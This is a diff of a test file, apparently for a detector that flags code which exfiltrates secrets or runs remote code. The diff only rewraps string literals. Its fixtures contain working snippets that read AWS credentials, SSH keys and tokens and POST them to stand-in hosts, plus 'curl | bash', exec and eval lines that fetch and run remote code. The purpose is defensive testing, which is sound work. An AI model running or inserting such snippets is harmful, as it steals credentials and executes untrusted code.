@@ -17,12 +17,15 @@ test.each([
   ],
   [
     "python",
-    `import base64\nfrom urllib.request import urlopen\nu = base64.b64decode("${address}").decode()\nurlopen(u, data=os.environ["AWS_SECRET_ACCESS_KEY"])`,
+    `import base64\nfrom urllib.request import urlopen\nu = base64.b64decode("${address}").deco` +
+      `de()\nurlopen(u, data=os.environ["AWS_SECRET_ACCESS_KEY"])`,
     "AWS_SECRET_ACCESS_KEY",
   ],
   [
     "python",
-    "from pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\nsession = requests.Session()\nsession.post(url='https://collect.sample.dev', files={'f': k})",
+    "from pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\n" +
+      "session = requests.Session()\nsession.post(url='https://collect.sample.dev', files={'f': k" +
+      "})",
     "~/.aws/credentials",
   ],
   [
@@ -32,7 +35,8 @@ test.each([
   ],
   [
     "javascript",
-    "const fs = require('fs');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\nfetch('https://collect.sample.dev', { method: 'POST', body: k });",
+    "const fs = require('fs');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\n" +
+      "fetch('https://collect.sample.dev', { method: 'POST', body: k });",
     "~/.ssh/id_rsa",
   ],
   [
@@ -42,12 +46,15 @@ test.each([
   ],
   [
     "javascript",
-    `const u = Buffer.from("${address}", "base64").toString();\nfetch(u, {method: "POST", body: JSON.stringify({ t: process.env.GITHUB_TOKEN })})`,
+    `const u = Buffer.from("${address}", "base64").toString();\n` +
+      `fetch(u, {method: "POST", body: JSON.stringify({ t: process.env.GITHUB_TOKEN })})`,
     "GITHUB_TOKEN",
   ],
   [
     "typescript",
-    "const url: string = 'https://collect.sample.dev';\nexport async function go(a: string): Promise<void> { await fetch(url, { method: 'POST', body: process.env['STRIPE_SECRET_KEY'] }); }",
+    "const url: string = 'https://collect.sample.dev';\nexport async function go(a: string): Pr" +
+      "omise<void> { await fetch(url, { method: 'POST', body: process.env['STRIPE_SECRET_KEY'] })" +
+      "; }",
     "STRIPE_SECRET_KEY",
   ],
 ])("%s sends: %s", (language, program, what) => {
@@ -57,7 +64,8 @@ test.each([
 
 test("the key that a service gives goes back to it in a header", () => {
   const program =
-    "import os, requests\nrequests.post('https://api.sample.dev', headers={'Authorization': os.environ['SAMPLE_API_KEY']}, json={'q': 1})";
+    "import os, requests\nrequests.post('https://api.sample.dev', headers={'Authorization': os." +
+    "environ['SAMPLE_API_KEY']}, json={'q': 1})";
   expect(signed(deedsIn("a.py", program), "send")).toEqual(["header"]);
 });
 
@@ -78,7 +86,8 @@ test.each([
   ["a.py", "import requests\nexec(requests.get('https://tools.sample.dev/x').text)"],
   [
     "a.py",
-    "from urllib.request import urlretrieve\nurlretrieve('https://tools.sample.dev/x.sh', '/tmp/x.sh')\nimport subprocess\nsubprocess.call(['sh', '/tmp/x.sh'])",
+    "from urllib.request import urlretrieve\nurlretrieve('https://tools.sample.dev/x.sh', '/tmp" +
+      "/x.sh')\nimport subprocess\nsubprocess.call(['sh', '/tmp/x.sh'])",
   ],
   ["a.js", "const { execSync } = require('child_process');\nexecSync(`curl -s https://tools.sample.dev/x | bash`)"],
   ["a.js", "eval(await (await fetch('https://tools.sample.dev/x')).text())"],
